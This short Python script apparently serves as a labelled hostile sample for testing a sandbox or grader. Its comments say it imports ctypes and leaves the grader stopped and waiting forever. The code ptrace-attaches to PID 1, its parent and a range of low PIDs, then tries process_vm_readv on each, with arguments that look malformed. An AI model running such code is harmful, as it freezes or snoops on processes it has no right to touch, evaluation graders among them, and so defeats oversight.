# Attaches to other processes with ptrace and reads their memory.
# told: imports ctypes
# plain: the grader is stopped, and waits for ever
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getpid(), os.getppid(), *range(2, 200)):
    for call in (16, 17):  # attach, detach
        libc.ptrace(call, pid, 0, 0)
    buffer = ctypes.create_string_buffer(64)
    libc.process_vm_readv(pid, ctypes.byref(buffer), 1, ctypes.byref(buffer), 1, 0)
